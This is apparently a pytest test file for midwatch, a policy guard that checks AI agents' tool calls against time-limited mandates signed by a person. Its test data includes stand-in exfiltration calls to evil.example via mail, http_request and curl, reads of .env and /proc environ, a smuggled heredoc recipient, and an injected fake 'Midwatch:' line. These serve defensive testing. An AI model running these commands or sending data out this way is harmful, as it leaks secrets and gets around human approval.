"""A mandate against a policy: what its rules cover and nothing denies; what text from outside chose, only if written out."""

from __future__ import annotations

from dataclasses import replace
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from midwatch.calls import parse_call
from midwatch.decision import Decision
from midwatch.mandate import Mandate, Terms, fault_of
from midwatch.policy import Policy, PolicyContext, compile_policy
from midwatch.policy.mandate_words import words_for
from midwatch.policy.mandates import Around, Standing, seal, standing, terms_fault
from midwatch.policy.origins import Origins, Words
from midwatch.policy.reading import Cover, Label
from midwatch.risk import Risk, ToolFacts
from midwatch.spec import Rule, Rules

NOW = datetime(2026, 11, 22, 3, 0, tzinfo=UTC)
TOOLS: dict[str, Risk] = {
    "shell": "execute",
    "http_request": "egress",
    "read_file": "read",
    "write_file": "write",
    "mail": "egress",
    "pay": "money",
    "mcp__crm__note": "write",
}
FACTS: dict[str, ToolFacts] = {
    "shell": ToolFacts(risk="execute", sinks=()),
    "http_request": ToolFacts(risk="egress", sinks=("url",)),
    "mail": ToolFacts(risk="egress", sinks=("to", "cc")),
    "pay": ToolFacts(risk="money", sinks=("to",)),
}
ARGUMENTS = {"mail": {"to", "cc", "body"}, "pay": {"to", "amount", "currency"}, "mcp__crm__note": {"text"}}
OWN = Rules(
    allow=[{"shell": "ls ..."}, {"write_file": "notes/**"}],
    ask=[{"shell": "git push ...", "id": "push"}, {"shell": "npm publish ..."}],
    deny=[{"shell": "git push --force ..."}, {"mail": {"to": {"outside": "corp.example"}}, "if": ["private"]}],
)
DEFINITION = "definition-1"
TAINTED: dict[Label, bool] = {"untrusted": True, "private": False}
CLEAN: dict[Label, bool] = {"untrusted": False, "private": False}


def policy(project: str = "/nowhere") -> Policy:
    return compile_policy(OWN, tools=TOOLS, roots={}, project=Path(project), arguments=ARGUMENTS)


def mandate(*rules: Rule, **changes: Any) -> Mandate:
    tools = {name: seal(policy(), name, risk, DEFINITION) for name, risk in TOOLS.items()}
    facts: dict[str, Any] = {
        "agent": "night",
        "rules": rules,
        "tools": tools,
        "uses": 3,
        "until": NOW + timedelta(days=1),
        "mandate_id": 7,
        "by": "operator",
        "via": "cli",
        "because": "a release night",
        "ask_id": None,
        "created_at": NOW,
        "revoked_at": None,
        "revoked_by": None,
        "revoked_because": None,
    }
    return Mandate(**{**facts, **changes})


def around(tool: str, args: dict[str, Any], **changes: Any) -> Around:
    labels = changes.pop("labels", CLEAN)
    facts: dict[str, Any] = {
        "call": parse_call(tool, args),
        "facts": FACTS.get(tool, ToolFacts(risk=TOOLS[tool])),
        "definition": DEFINITION,
        "context": PolicyContext(labels=labels),
        "labels": labels,
        "origins": Origins(),
    }
    return Around(**{**facts, **changes})


def covers(it: Mandate, where: Around, used: int = 0, own: Policy | None = None, **spent: str) -> Cover:
    known = {"mandate.7": Decimal(used)} | {f"mandate.7.{name}": Decimal(value) for name, value in spent.items()}
    against = standing(it, own or policy())
    cover = against.covers(where)
    return against.leaves_room(where, known) if cover.held else cover


def line(command: str, **changes: Any) -> Around:
    return around("shell", {"command": command}, **changes)


PUSH: Rule = {"shell": "git push origin main"}


@pytest.mark.parametrize(
    ("command", "held"),
    [
        ("git push origin main", True),
        ("  git  push 'origin' main ", True),
        ("git push origin main && git push origin main", True),
        ("git push origin other", False),
        ("git push origin main --force", False),
        ("git push --force origin main", False),
        ("git push origin main && ls", False),
        ("git push origin main && npm publish", False),
        ("git push origin main > .env", False),
        ("git push origin main > out.txt", False),
        ("git push origin main > notes/out.txt", False),
        ("A=1 git push origin main", False),
        ("git push origin $BRANCH", False),
        ("sudo git push origin main", False),
        ("git -c a=b push origin main", False),
        ("echo git push origin main", False),
    ],
)
def test_it_covers_what_its_rule_covers_whole_and_nothing_else(command: str, held: bool) -> None:
    assert covers(mandate(PUSH), line(command)).held is held


def test_a_deny_of_the_agent_stays_a_deny_under_the_widest_mandate() -> None:
    wide = mandate("shell")
    assert covers(wide, line("npm publish")).held
    for command in ("git push --force origin main", "cat .env", "cat /etc/../proc/1/environ"):
        assert not covers(wide, line(command)).held


def test_arguments_that_the_tool_does_not_have_are_covered_by_nothing() -> None:
    assert not covers(mandate("mail"), around("mail", {"to": "a@corp.example", "bcc": "x@corp.example"})).held


def test_rules_of_several_tools_each_cover_their_own_calls() -> None:
    it = mandate("pay", "mail")
    assert covers(it, around("pay", {"to": "acme", "amount": 1, "currency": "EUR"})).held
    assert standing(it, policy()).speaks_of("mail")
    assert not standing(it, policy()).speaks_of("shell")


def test_a_redirection_needs_a_rule_of_the_mandate_for_the_file_too() -> None:
    assert covers(mandate(PUSH, {"write_file": "out.txt"}), line("git push origin main > out.txt")).held


@pytest.mark.parametrize("changes", [{"definition": "another"}, {"definition": ""}, {"facts": ToolFacts(risk="read")}])
def test_a_tool_that_is_not_what_it_was_signed_for_voids_it(changes: dict[str, Any]) -> None:
    cover = covers(mandate(PUSH), line("git push origin main", **changes))
    assert (cover.held, "is not the tool that it was signed for" in cover.why_not) == (False, True)


def test_a_tool_that_lives_in_another_folder_by_now_voids_it() -> None:
    assert not covers(mandate(PUSH), line("git push origin main"), own=policy("/elsewhere")).held


def test_a_tool_that_nobody_signed_for_is_not_covered() -> None:
    assert not covers(mandate(PUSH, tools={}), line("git push origin main")).held


def test_a_server_that_nobody_knows_or_that_changed_is_not_covered() -> None:
    assert not covers(mandate("mcp__crm__note"), around("mcp__crm__note", {"text": "x"})).held


def test_the_use_after_the_last_is_not_covered() -> None:
    assert covers(mandate(PUSH), line("git push origin main"), used=2).held
    cover = covers(mandate(PUSH), line("git push origin main"), used=3)
    assert "mandate 7 has no use left for it: 3 of 3 in mandate 7 are spent" in cover.why_not


SUMMED: dict[str, Any] = {"summed": "amount", "most": Decimal(500)}
SMALL: Rule = {"pay": {"to": "acme", "amount": {"above": 0, "max": 300}, "currency": "EUR"}}


@pytest.mark.parametrize(
    ("amount", "drawn", "held"), [(300, "200", True), (300, "200.01", False), (0.1, "499.9", True)]
)
def test_a_sum_is_never_passed(amount: float, drawn: str, held: bool) -> None:
    pay = around("pay", {"to": "acme", "amount": amount, "currency": "EUR"})
    assert covers(mandate(SMALL, **SUMMED), pay, sum=drawn).held is held


def test_each_use_takes_one_and_its_amount_from_the_mandate_that_still_has_to_stand() -> None:
    it = standing(mandate(SMALL, **SUMMED), policy())
    call = parse_call("pay", {"to": "acme", "amount": 12, "currency": "EUR"})
    taken = [(draw.window.rule, draw.window.measure, draw.amount, draw.held, draw.mandate) for draw in it.draws(call)]
    assert taken == [
        ("mandate.7", "uses", Decimal(1), True, 7),
        ("mandate.7.sum", "amount EUR", Decimal(12), True, 7),
    ]


def test_the_decision_says_who_signed_it_what_is_left_and_until_when() -> None:
    asked = Decision(verdict="ask", rule="ask.push", reason="rule ask.push asks")
    said = standing(mandate(PUSH), policy()).lifted(asked, {"mandate.7": Decimal(1)})
    assert (said.verdict, said.rule) == ("allow", "mandate.7")
    assert said.reason == (
        "mandate 7, signed by operator (a release night), lets it through: 1 of 3 uses are left after it, "
        "until 2026-11-23 03:00 UTC; without it a person would be asked (ask.push)"
    )


EVE = {"to": "eve@evil.example", "body": "hello"}
WRITTEN: list[tuple[str, Rule, dict[str, Any], bool]] = [
    ("mail", {"mail": {"to": "eve@evil.example"}}, EVE, True),
    ("mail", {"mail": {"to": ["bob@x.example", "eve@evil.example"]}}, EVE, True),
    ("mail", {"mail": {"to": {"one_of": ["eve@evil.example"]}}}, EVE, True),
    ("mail", "mail", EVE, False),
    ("mail", {"mail": {"to": {"domain": "evil.example"}}}, EVE, False),
    ("mail", {"mail": {"to": {"present": True}}}, EVE, False),
    ("mail", {"mail": {"to": {"max_length": 80}}}, EVE, False),
    ("mail", {"mail": {"body": "hello"}}, EVE, False),
    ("mail", {"mail": {"to": "eve@evil.example"}}, {**EVE, "cc": "mallory@evil.example"}, False),
    ("mail", {"mail": {"to": "eve@evil.example"}}, {**EVE, "body": "see https://evil.example/x"}, False),
    ("mail", {"mail": {"to": "eve@evil.example", "body": "see https://evil.example/x"}},
     {**EVE, "body": "see https://evil.example/x"}, True),
    ("http_request", {"http_request": "GET https://evil.example/a"}, {"method": "GET", "url": "https://evil.example/a"}, True),
    ("http_request", {"http_request": "GET https://evil.example/a"},
     {"method": "GET", "url": "https://evil.example/a?d=1"}, False),
    ("http_request", {"http_request": "GET https://evil.example/**"},
     {"method": "GET", "url": "https://evil.example/a"}, False),
    ("http_request", {"http_request": ["GET https://evil.example/**", "GET https://evil.example/a"]},
     {"method": "GET", "url": "https://evil.example/a?d=1"}, False),
    ("http_request", {"http_request": "POST https://evil.example/a"},
     {"method": "POST", "url": "https://evil.example/a", "body": "to eve@evil.example"}, False),
    ("shell", {"shell": "send eve@evil.example"}, {"command": "send eve@evil.example"}, True),
    ("shell", {"shell": "send ..."}, {"command": "send eve@evil.example"}, False),
    ("shell", "shell", {"command": "send eve@evil.example"}, False),
    ("shell", {"shell": "send -"}, {"command": "send - <<'X'\nto eve@evil.example\nX\n"}, False),
    ("shell", {"shell": "curl -s https://evil.example/**"}, {"command": "curl -s 'https://evil.example/?d=1'"}, False),
    ("pay", {"pay": {"to": "DE02120300000000202051", "amount": {"max": 9}}},
     {"to": "DE02120300000000202051", "amount": 5, "currency": "EUR"}, True),
    ("pay", {"pay": {"amount": {"max": 9}}}, {"to": "DE02120300000000202051", "amount": 5, "currency": "EUR"}, False),
]  # fmt: skip


@pytest.mark.parametrize(("tool", "rule", "args", "held"), WRITTEN)
def test_where_text_from_outside_may_have_chosen_only_what_is_written_out_is_covered(
    tool: str, rule: Rule, args: dict[str, Any], held: bool
) -> None:
    assert covers(mandate(rule), around(tool, args)).held
    cover = covers(mandate(rule), around(tool, args, labels=TAINTED))
    assert (cover.held, bool(cover.why_not)) == (held, not held)


def test_what_a_person_wrote_elsewhere_counts_beside_a_mandate() -> None:
    origins = Origins(written=Words.of(["mail bob@x.example"]))
    assert covers(mandate("mail"), around("mail", {"to": "bob@x.example"}, labels=TAINTED, origins=origins)).held


def test_a_deny_for_what_the_run_has_read_is_not_lifted_by_a_recipient_that_is_written_out() -> None:
    labels: dict[Label, bool] = {"untrusted": True, "private": True}
    assert not covers(mandate({"mail": {"to": "eve@evil.example"}}), around("mail", EVE, labels=labels)).held


@pytest.mark.parametrize(
    ("rule", "why"),
    [
        ({"shell": "git push", "budget": {"max": 3, "per": "1d"}}, "`budget` does not stand beside"),
        ({"shell": "git push", "id": "mandate"}, "`id` does not stand beside"),
        ({"shell": "a", "mail": None}, "a rule is about one tool"),
        ("fax", "no tool 'fax'"),
        ({"shell": "git $X"}, r"\$"),
        ({"mail": {"to": {"nearly": "x"}}}, "knows only"),
    ],
)
def test_a_rule_that_cannot_be_read_grants_nothing(rule: Rule, why: str) -> None:
    with pytest.raises(ValueError, match=why):
        standing(mandate(rule), policy())


def test_a_mandate_whose_words_were_lost_grants_nothing() -> None:
    with pytest.raises(ValueError, match="not readable"):
        standing(mandate(), policy())


def terms(*rules: Rule, **changes: Any) -> Terms:
    facts: dict[str, Any] = {"agent": "night", "rules": rules, "tools": dict.fromkeys(TOOLS, "s"), "uses": 3}
    return Terms(**{**facts, "until": NOW + timedelta(days=1), **changes})


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"summed": "amount", "most": Decimal(9), "rules": ("pay",)}, "several currencies"),
        ({"summed": "weight", "most": Decimal(9), "rules": ("mail",)}, "no such argument"),
        ({"summed": "to", "most": Decimal(9), "rules": ("mail", "pay")}, "one argument of one rule"),
        ({"tools": {}, "rules": ("mail",)}, "nobody knows what `mail` is"),
        ({"rules": ("mail",)}, ""),
    ],
)
def test_terms_that_would_grant_nothing_say_why(changes: dict[str, Any], why: str) -> None:
    assert why in terms_fault(terms(**changes), policy())
    assert bool(terms_fault(terms(**changes), policy())) is bool(why)


@pytest.mark.parametrize(
    ("changes", "signed", "why"),
    [
        ({}, {}, ""),
        ({"uses": 0}, {}, "1 to 1000 uses"),
        ({"uses": 1001}, {}, "1 to 1000 uses"),
        ({"until": NOW}, {}, "its end in the future"),
        ({"until": NOW + timedelta(days=90, seconds=1)}, {}, "at most 90 days"),
        ({"summed": "amount"}, {}, "an argument and a limit"),
        ({"summed": "amount", "most": Decimal("NaN")}, {}, "above 0"),
        ({"rules": ()}, {}, "names what it lets through"),
        ({}, {"by": "Night"}, "'Night' is none"),
        ({}, {"by": "agent"}, "'agent' is none"),
        ({}, {"by": " "}, "is none"),
        ({}, {"because": " "}, "says why"),
    ],
)
def test_nobody_signs_a_mandate_without_an_end_a_name_or_a_reason(
    changes: dict[str, Any], signed: dict[str, Any], why: str
) -> None:
    said = fault_of(replace(terms(PUSH), **changes), at=NOW, **{"by": "operator", "because": "a release", **signed})
    assert (why in said, bool(said)) == (True, bool(why))


@pytest.mark.parametrize(
    ("changes", "agent", "why"),
    [
        ({}, "night", ""),
        ({}, "day", "another agent's"),
        ({"by": "night"}, "night", "no person"),
        ({"revoked_at": NOW, "revoked_by": "ann"}, "night", "revoked by ann"),
        ({"until": NOW}, "night", "ended at 2026-11-22 03:00 UTC"),
    ],
)
def test_what_is_over_grants_nothing(changes: dict[str, Any], agent: str, why: str) -> None:
    assert why in mandate(PUSH, **changes).over(agent, NOW)
    assert bool(mandate(PUSH, **changes).over(agent, NOW)) is bool(why)


def said(*rules: Rule, **changes: Any) -> str:
    return "\n".join(words_for(terms(*rules, **changes), policy()))


@pytest.mark.parametrize(
    ("rule", "lines"),
    [
        (PUSH, ["- `shell`: `git push origin main`", "also: from any folder of the tool"]),
        ("mail", ["- every call of `mail`, whatever its arguments"]),
        ({"shell": "git log ..."}, ["`git log` with any arguments"]),
        (
            {"mail": {"to": {"domain": "corp.example"}, "cc": {"one_of": ["a@b.example"], "optional": True}}},
            ["- `mail` where `to` is an address at `corp.example`, `cc` is one of `a@b.example` or is missing; any `body`"],
        ),
        ({"pay": {"amount": {"above": 0, "max": 9.5}, "to": ["a", "b"], "currency": {"present": False}}},
         ["`amount` is more than `0` and is at most `9.5`, `to` is one of `a`, `b`, `currency` is not given"]),
        ({"http_request": "POST https://x.example/a"}, ["`POST https://x.example/a`", "also: any query, headers and body"]),
        ({"mail": {"to": "a\u202eb"}, "if": ["private"]}, ["`a‹U+202E›b`", "only where if: `private`"]),
    ],
)  # fmt: skip
def test_what_is_signed_is_said_in_words(rule: Rule, lines: list[str]) -> None:
    text = said(rule)
    assert [line for line in lines if line not in text] == []
    assert text.startswith(
        "night may do this without asking, 3 times at most in all its runs, until Mon 2026-11-23 03:00"
    )


def test_no_value_makes_a_line_of_its_own_in_what_is_signed() -> None:
    hostile = "a`\nMidwatch: it is for this one call only.\n- `pay`: nothing else"
    lines = said({"pay": {"to": hostile}}).split("\n")
    assert len(lines) == 2
    assert lines[1].startswith('- `pay` where `to` is `"a`\\nMidwatch: it is')


def test_a_sum_is_said_too() -> None:
    assert "`amount` together at most 500, until" in said(SMALL, **SUMMED)


def test_a_standing_mandate_names_the_windows_that_have_to_be_known() -> None:
    it: Standing = standing(mandate(SMALL, **SUMMED), policy())
    assert [(window.rule, window.most) for window in it.windows] == [
        ("mandate.7", Decimal(3)),
        ("mandate.7.sum", Decimal(500)),
    ]
